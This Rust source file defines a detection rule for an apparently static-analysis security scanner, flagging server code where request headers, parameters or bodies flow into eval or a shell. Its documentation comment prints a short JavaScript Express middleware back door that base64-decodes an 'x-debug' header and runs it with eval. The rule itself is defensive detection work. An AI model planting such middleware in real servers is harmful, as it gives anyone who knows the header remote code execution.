//! # What a request brings is run as code
//!
//! ## What it finds
//! Part of a request that a server was sent (a header, a parameter, the body) reaches an evaluator or a shell, perhaps decoded on
//! the way.
//!
//! ## Why it matters
//! It is a back door for whoever knows the header. Middleware with one needs no connection of its own, so that no monitor of
//! egress sees it; `express-api-sync` and `system-health-sync-api` (npm, 2025) waited for such requests in the servers of
//! whoever used them.
//!
//! ## Example
//! ```javascript
//! module.exports = (req, res, next) => {
//!   const code = req.headers["x-debug"];
//!   if (code) eval(Buffer.from(code, "base64").toString());
//!   next();
//! };
//! ```
//!
//! ## What to do
//! Do not install. If it was installed in a server, treat that machine as somebody else's.
//!
//! ## When it is wrong
//! Consoles in the browser and notebooks run what their user sends; that is their purpose, and they say so.
use foretaste_engine::prelude::*;

declare_rule! {
    RequestRunsCode,
    id: "request-runs-code",
    title: "runs what a request brings",
    group: Chain,
    severity: Critical,
    confidence: High,
    needs: [Code],
    tags: ["T1505.003", "T1059"],
    since: "0.1.0",
}

impl ChainRule for RequestRunsCode {
    fn judge(&self, chain: &Chain<'_>, _scene: &Scene<'_>) -> Option<Finding> {
        let (source, sink) = (chain.source()?, chain.sink()?);
        let of_request = matches!(
            source.capability,
            Capability::NetworkRequest | Capability::NetworkListen
        );
        if !of_request || chain.flow.link != FlowLink::Data {
            return None;
        }
        let context = chain.context();
        let mut finding = self
            .finding(match sink.capability {
                Capability::CodeEval | Capability::CodeCompile => {
                    "runs what a request brings as code"
                }
                Capability::ProcessShell => "runs what a request brings in a shell",
                _ => return None,
            })
            .context(context);
        if sink.capability == Capability::ProcessShell {
            // careless servers do this with a name in the middle of a command
            finding = finding
                .severity(Severity::High)
                .confidence(Confidence::Medium);
        }
        finding.evidence = chain.evidence(|step| step.api.to_string());
        Some(finding)
    }
}
